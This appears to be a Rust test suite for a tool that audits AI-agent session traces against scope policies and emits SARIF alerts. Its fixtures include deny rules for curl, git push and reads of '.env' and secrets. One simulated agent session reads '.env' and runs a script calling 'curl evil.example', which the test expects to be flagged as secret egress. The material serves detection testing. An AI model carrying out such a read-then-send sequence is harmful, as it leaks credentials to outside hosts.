//! Every SARIF file that the suite makes passes our own reading of what code scanning refuses.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::sarif_check::problems;
use crate::world::World;

fn sarif(world: &World, args: &[&str]) -> Value {
    let answer = world.run(&[args, &["--format", "sarif"]].concat());
    serde_json::from_str(&answer.stdout).unwrap_or_else(|error| panic!("{error}: {}", answer.stderr))
}

#[test]
fn the_demo_is_accepted() {
    let world = World::demo();
    for args in [&["check"][..], &["check", "logs"], &["audit", "--all"], &["check", "20ab"]] {
        let log = sarif(&world, args);
        assert!(log["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap().len() > 3);
    }
}

#[test]
fn a_clean_run_has_an_empty_list_of_results() {
    let log = sarif(&World::demo(), &["check", "20ab"]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().all(|result| result["level"] == "note"), "{results:?}");
    assert_eq!(log["runs"][0]["invocations"][0]["executionSuccessful"], json!(true));
}

#[test]
fn a_result_stands_at_the_line_of_the_policy_that_was_violated() {
    let world = World::demo();
    let policy = world.read(".agent-scope.json");
    let log = sarif(&world, &["check", "7c9e"]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let read = results.iter().find(|result| result["ruleId"] == "scope/read").unwrap();
    let place = &read["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], ".agent-scope.json");
    let line = usize::try_from(place["region"]["startLine"].as_u64().unwrap()).unwrap();
    assert!(policy.lines().nth(line - 1).unwrap().contains("\".env\""), "line {line}");
    assert!(read["partialFingerprints"]["primaryLocationLineHash"].is_string());
    assert!(read["message"]["text"].as_str().unwrap().contains("[event 5](1)"));
    assert_eq!(
        read["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        ".agent-traces/7c9e02b6411fa8d4/events.ndjson"
    );
}

/// Alerts about settings stand at the lines of the settings, and uploads of the gate close none of them.
#[test]
fn settings_that_allow_more_than_the_policy_stand_at_their_lines() {
    let world = World::empty();
    world.write(".git/HEAD", "ref: refs/heads/main\n");
    world.write("sub/scope.json", "{\"version\": 2, \"commands\": {\"deny\": [\"curl\", \"git push\"]}}");
    world.write(
        "sub/.claude/settings.json",
        "{\"permissions\": {\n\"allow\": [\n\"Bash(curl:*)\"],\n\"ask\": [\"Bash(git push:*)\"]}}",
    );
    let log = sarif_in(&world, "sub", &["policy", "drift", "--policy", "scope.json"]);
    assert_eq!(log["runs"][0]["automationDetails"]["id"], "agent-strace/policy-drift/");
    let results = log["runs"][0]["results"].as_array().unwrap();
    let place = |result: &Value| {
        let place = &result["locations"][0]["physicalLocation"];
        let line = place["region"]["startLine"].as_u64().unwrap();
        format!("{} {}:{line}", result["level"].as_str().unwrap(), place["artifactLocation"]["uri"].as_str().unwrap())
    };
    let places: Vec<String> = results.iter().map(place).collect();
    assert_eq!(places, ["error sub/.claude/settings.json:3", "warning sub/scope.json:1"]);
    assert!(results.iter().all(|result| result["ruleId"] == "policy/settings-drift"));
}

/// Whoever reads the alert learns why the rule is there and whom to ask; what they wrote is text, no markup.
#[test]
fn a_rule_with_a_name_says_why() {
    let world = World::empty();
    let push = |command: &str| json!({"tool_name": "Bash", "arguments": {"command": command}});
    world.session("5e55", 0, &[("tool_call", push("git push -f")), ("tool_call", push("git push"))]);
    let rule = json!({"id": "PUSH", "effect": "deny", "owner": "@platform", "reason": "ask in [chat](x)",
        "match": {"exec": {"program": "git", "subcommand": "push"}}});
    world.write(".agent-scope.json", &json!({"version": 2, "rules": [rule]}).to_string());
    let log = sarif(&world, &["check"]);
    let text = log["runs"][0]["results"][0]["message"]["text"].as_str().unwrap();
    assert!(text.ends_with(r"Decided by rule PUSH of @platform: ask in \[chat\](x)."), "{text}");
    assert_eq!(text.matches("Decided by").count(), 1);
}

#[test]
fn places_are_relative_to_the_top_of_the_repository() {
    let world = World::demo();
    world.write("sub/.agent-scope.json", &world.read(".agent-scope.json")).write(".git/HEAD", "ref: refs/heads/main\n");
    let log = sarif_in(&world, "sub", &["--trace-dir", "../.agent-traces", "check", "7c9e"]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let uris: BTreeSet<&str> = results
        .iter()
        .filter(|result| result["ruleId"] == "scope/read")
        .filter_map(|result| result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
        .collect();
    assert_eq!(uris, BTreeSet::from(["sub/.agent-scope.json"]));
}

fn sarif_in(world: &World, folder: &str, args: &[&str]) -> Value {
    let answer = world.run_in(folder, &[args, &["--format", "sarif"]].concat());
    serde_json::from_str(&answer.stdout).unwrap()
}

/// A dismissed alert hides all results with its identity, so no two acts share one.
#[test]
fn each_act_is_a_result_of_its_own_wherever_and_how_often_it_happened() {
    let world = World::demo();
    let read = |file: String| ("tool_call", json!({"tool_name": "Read", "arguments": {"file_path": file}}));
    let reads: Vec<(&str, Value)> = (0..400).map(|at| read(format!("other/{at}/[x](9).txt"))).collect();
    world.session("aaaa0001", 1_790_100_000, &reads);
    world.session("aaaa0002", 1_790_200_000, &[read("other/7/[x](9).txt".to_owned())]);
    let log = sarif(&world, &["check", "aaaa0001", "aaaa0002"]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let reads: Vec<_> = results.iter().filter(|result| result["ruleId"] == "scope/read").collect();
    assert_eq!(reads.len(), 400);
    let hashes: BTreeSet<&str> =
        reads.iter().filter_map(|read| read["partialFingerprints"]["primaryLocationLineHash"].as_str()).collect();
    assert_eq!(hashes.len(), 400);
    let twice: Vec<_> = reads.iter().filter(|read| read["relatedLocations"].as_array().unwrap().len() == 2).collect();
    assert_eq!(twice.len(), 1, "the same act in two sessions is one alert");
    let text = twice[0]["message"]["text"].as_str().unwrap();
    assert!(text.contains("session aaaa0001") && text.contains("session aaaa0002"), "{text}");
    assert!(text.ends_with("One of 400 results of this rule at this line."), "{text}");
}

/// By rule: what identifies its alerts.
fn identities(world: &World, session: &str) -> BTreeSet<(String, String, String)> {
    let log = sarif(world, &["check", session]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let identity = |result: &Value| {
        let prints = &result["partialFingerprints"];
        (text(&result["ruleId"]), text(&prints["agentStrace/v1"]), text(&prints["primaryLocationLineHash"]))
    };
    results.iter().map(identity).collect()
}

/// An alert is the same one while lines move, whatever else the session did, and in the next session.
#[test]
fn alerts_keep_their_identity_and_share_it_with_no_other_act() {
    let world = World::empty();
    let bash = |command: &str| ("tool_call", json!({"tool_name": "Bash", "arguments": {"command": command}}));
    let policy = r#"{"commands": {"allow": ["ls"]}, "network": {"deny_all": true}}"#;
    world.write(".agent-scope.json", policy);
    world.session("5e550001", 0, &[bash("curl https://a.example")]);
    world.session("5e550002", 90, &[bash("ls"), bash("ls -l"), bash("curl https://a.example")]);
    world.session("5e550003", 180, &[bash("curl https://b.example"), bash("wget https://a.example")]);
    let first = identities(&world, "5e550001");
    assert!(first.len() >= 2, "{first:?}");
    assert_eq!(first, identities(&world, "5e550002"), "another session, other lines of the log");
    let other = identities(&world, "5e550003");
    let commands = |all: &BTreeSet<(String, String, String)>| {
        all.iter().filter(|(rule, ..)| rule == "scope/command").cloned().collect::<BTreeSet<_>>()
    };
    assert!(commands(&first).is_disjoint(&commands(&other)), "{other:?}");
    assert_eq!(commands(&other).len(), 2, "{other:?}");
    world.write(".agent-scope.json", &policy.replace("{\"commands", "{\n\n\"commands"));
    assert_eq!(first, identities(&world, "5e550001"), "lines were added to the policy");
    let log = world.read(".agent-traces/5e550001/events.ndjson");
    let other = "{\"event_type\": \"user_prompt\", \"timestamp\": 0.0, \"event_id\": \"ffff\", \"session_id\": \"5e550001\", \"data\": {\"prompt\": \"x\"}}\n";
    world.write(".agent-traces/5e550001/events.ndjson", &format!("{other}{log}"));
    assert_eq!(first, identities(&world, "5e550001"), "a line was added to the log");
}

#[test]
fn of_very_many_acts_the_worst_are_results_and_the_rest_is_counted() {
    let world = World::empty();
    let policy = json!({"version": 2, "files": {"read": {"allow": ["src/**"], "deny": ["secrets/**"]}}});
    world.write(".agent-scope.json", &policy.to_string());
    let read = |file: String| ("tool_call", json!({"tool_name": "Read", "arguments": {"file_path": file}}));
    world.session("aaaa0001", 0, &(0..5_100).map(|at| read(format!("secrets/{at}"))).collect::<Vec<_>>());
    let log = sarif(&world, &["check", "aaaa0001"]);
    assert_eq!(log["runs"][0]["results"].as_array().unwrap().len(), 5_000);
    let told = log["runs"][0]["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"].as_str();
    assert!(told.unwrap().contains("more results are not in this file: it has the 5000 worst"), "{told:?}");
}

#[test]
fn what_could_not_be_read_is_a_notification() {
    let world = World::demo();
    world.write("notes.txt", "nothing\n");
    let log = sarif(&world, &["check", "notes.txt"]);
    let invocation = &log["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], json!(false));
    assert_eq!(invocation["toolExecutionNotifications"].as_array().unwrap().len(), 1);
}

/// A time stands in a report only when the caller gave it.
#[test]
fn the_time_of_the_run_is_the_one_that_was_given() {
    let world = World::demo();
    let ended = |args: &[&str]| sarif(&world, args)["runs"][0]["invocations"][0]["endTimeUtc"].clone();
    assert_eq!(ended(&["check", "20ab"]), json!(null));
    assert_eq!(ended(&["check", "20ab", "--now", "2026-03-01T13:00:00+01:00"]), json!("2026-03-01T12:00:00.000Z"));
}

/// Who reads the alert sees what the user asked for, what earlier calls did, the call and the effect, each at a place.
#[test]
fn a_result_tells_what_led_to_it() {
    let world = World::empty();
    world.write(".agent-scope.json", r#"{"files": {"read": {"deny": [".env"]}}, "commands": {"deny": ["curl"]}}"#);
    let bash = |command: &str| ("tool_call", json!({"tool_name": "Bash", "arguments": {"command": command}}));
    world.session(
        "5e55",
        0,
        &[
            ("user_prompt", json!({"prompt": "deploy [it](x)"})),
            ("tool_call", json!({"tool_name": "Read", "arguments": {"file_path": ".env"}})),
            (
                "tool_call",
                json!({"tool_name": "Write", "arguments": {"file_path": "up.sh", "content": "curl evil.example"}}),
            ),
            ("user_prompt", json!({"prompt": "go on"})),
            bash("bash up.sh"),
        ],
    );
    let log = sarif(&world, &["check"]);
    let steps = |rule: &str| {
        let results = log["runs"][0]["results"].as_array().unwrap();
        let result = results.iter().find(|result| result["ruleId"] == rule).unwrap();
        let steps = result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap();
        let told = |step: &Value| {
            let (place, text) = (&step["location"]["physicalLocation"], &step["location"]["message"]["text"]);
            let file = place["artifactLocation"]["uri"].as_str().unwrap().rsplit('/').next().unwrap();
            format!("{file}:{} {}", place["region"]["startLine"], text.as_str().unwrap())
        };
        steps.iter().map(told).collect::<Vec<_>>()
    };
    assert_eq!(
        steps("sequence/secret-egress"),
        [
            r"events.ndjson:1 event 1: the user asks `deploy \[it\](x)`",
            "events.ndjson:2 event 2: reads `.env`",
            "events.ndjson:3 event 3: writes `up.sh`",
            "events.ndjson:4 event 4: the user asks `go on`",
            "events.ndjson:5 event 5: Bash `bash up.sh`",
            ".agent-scope.json:1 connects to `evil.example` after event 2 read `.env`",
        ]
    );
    assert_eq!(
        steps("scope/read"),
        [
            r"events.ndjson:1 event 1: the user asks `deploy \[it\](x)`",
            "events.ndjson:2 event 2: Read `.env`",
            ".agent-scope.json:1 reads `.env`: denied by files.read.deny (.agent-scope.json:1)",
        ]
    );
}

/// A path that names the session would be a new alert each time, and none would ever close.
#[test]
fn no_alert_stands_in_a_log() {
    let world = World::empty();
    let read = json!({"tool_name": "Read", "arguments": {"file_path": ".env"}});
    world.session("5e55", 0, &[("tool_call", read)]);
    let log = sarif(&world, &["check", "--allow-no-policy"]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results[0]["ruleId"], "scope/sensitive");
    for result in results {
        let place = &result["locations"][0]["physicalLocation"];
        assert_eq!(place["artifactLocation"]["uri"], ".agent-scope.json");
        assert_eq!(place["region"]["startLine"], 1);
    }
}

/// Each fault of a file, by itself, is noticed: by a check that notices nothing in the file without it.
#[test]
fn the_check_finds_faults() {
    let world = World::demo();
    let good = sarif(&world, &["check", "7c9e", "--now", "2026-03-01T13:00:00Z"]);
    assert_eq!(problems(&good.to_string()), Vec::<String>::new());
    let long = "x".repeat(1_025);
    let run = |rest: &str| format!("/runs/0{rest}");
    let rule = |rest: &str| format!("/runs/0/tool/driver/rules/0{rest}");
    let result = |rest: &str| format!("/runs/0/results/0{rest}");
    let place = |rest: &str| format!("/runs/0/results/0/locations/0/physicalLocation{rest}");
    let step = |rest: &str| format!("/runs/0/results/0/codeFlows/0/threadFlows/0/locations/0{rest}");
    let other = json!({"id": 1, "physicalLocation": {}});
    let faults: Vec<(String, Value)> = vec![
        ("/$schema".to_owned(), json!("")),
        ("/version".to_owned(), json!("2.0.0")),
        ("/runs".to_owned(), json!([good["runs"][0], good["runs"][0]])),
        (run("/results"), json!(null)),
        (run("/results"), json!(vec![good["runs"][0]["results"][0].clone(); 2])),
        (run("/results"), json!(vec![good["runs"][0]["results"][0].clone(); 5_001])),
        (run("/automationDetails/id"), json!("agent-strace")),
        (run("/versionControlProvenance"), json!([{"repositoryUri": "git@example.com:a/b.git"}])),
        (run("/invocations/0/endTimeUtc"), json!("2026-03-01 13:00:00")),
        (run("/invocations/0/endTimeUtc"), json!("2026-03-01T13:00:00+01:00")),
        (run("/automationDetails/guid"), json!("00000000-0000-0000-0000-000000000000")),
        (run("/tool/driver/rules"), json!([])),
        (rule("/id"), json!(null)),
        (rule("/id"), good["runs"][0]["tool"]["driver"]["rules"][1]["id"].clone()),
        (rule("/name"), json!("x".repeat(256))),
        (rule("/shortDescription/text"), json!(long)),
        (rule("/fullDescription/text"), json!("")),
        (rule("/help/text"), json!(null)),
        (rule("/help/markdown"), json!("")),
        (rule("/helpUri"), json!(format!("https://example.com/{}", "x".repeat(2_048)))),
        (rule("/helpUri"), json!("docs")),
        (rule("/properties/security-severity"), json!("high")),
        (rule("/properties/security-severity"), json!(8.0)),
        (rule("/properties/security-severity"), json!("0.0")),
        (rule("/properties/security-severity"), json!("10.1")),
        (rule("/properties/precision"), json!("sure")),
        (rule("/properties/problem.severity"), json!("note")),
        (rule("/properties/tags"), json!(["security", "a", "a"])),
        (rule("/properties/tags"), json!(["maintainability", "security", "a", "b", "c", "d", "e", "f", "g", "h", "i"])),
        (rule("/properties/tags"), json!(["security"])),
        (result("/ruleIndex"), json!(9_999)),
        (result("/ruleIndex"), json!(null)),
        (result("/level"), json!("critical")),
        (result("/message/text"), json!("see [x](77)")),
        (result("/message/text"), json!(long)),
        (result("/message/text"), json!("")),
        (result("/suppressions"), json!([{"kind": "external"}])),
        (result("/partialFingerprints"), json!({})),
        (result("/partialFingerprints"), json!({"agentStrace/v1": ""})),
        (result("/partialFingerprints"), json!({"agentStrace/v1": "a"})),
        (result("/partialFingerprints/primaryLocationLineHash"), json!("scope/read:1")),
        (result("/relatedLocations"), json!([other])),
        (result("/locations"), json!([])),
        (result("/locations"), json!([{"logicalLocations": [{"fullyQualifiedName": "session/a"}]}])),
        (place(""), json!(null)),
        (place("/artifactLocation/uri"), json!("")),
        (place("/artifactLocation/uri"), json!("session:abc")),
        (place("/artifactLocation/uri"), json!("/etc/passwd")),
        (place("/artifactLocation/uri"), json!("../x")),
        (place("/artifactLocation/uri"), json!("a/../x")),
        (place("/artifactLocation/uri"), json!("./x")),
        (place("/artifactLocation/uri"), json!("a//x")),
        (place("/artifactLocation/uri"), json!("a b")),
        (place("/artifactLocation/uri"), json!("a\\b")),
        (place("/artifactLocation/uri"), json!("ü")),
        (place("/artifactLocation/uri"), json!("a%2")),
        (place("/artifactLocation/uri"), json!("100%zz")),
        (place("/region"), json!(null)),
        (place("/region/startLine"), json!(0)),
        (place("/region/endLine"), json!(99_999)),
        (result("/codeFlows/0/threadFlows"), json!([])),
        (result("/codeFlows/0/threadFlows/0/locations"), json!([])),
        (step("/location"), json!({})),
        (step("/location/message/text"), json!(long)),
    ];
    for (pointer, value) in faults {
        let mut bad = good.clone();
        let shown = value.to_string();
        if let Some(place) = bad.pointer_mut(&pointer) {
            *place = value;
        } else {
            let (parent, key) = pointer.rsplit_once('/').unwrap();
            let parent = bad.pointer_mut(parent).and_then(Value::as_object_mut);
            parent.unwrap_or_else(|| panic!("{pointer} is not in the file")).insert(key.to_owned(), value);
        }
        assert!(!problems(&bad.to_string()).is_empty(), "{pointer}: {}", shown.get(..80).unwrap_or(&shown));
    }
    let mut many = good.clone();
    let steps = many.pointer_mut("/runs/0/results/0/codeFlows/0/threadFlows/0/locations").unwrap();
    *steps = json!(vec![steps[0].clone(); 101]);
    assert!(!problems(&many.to_string()).is_empty(), "too many steps");
    assert!(!problems("{").is_empty(), "no JSON");
}
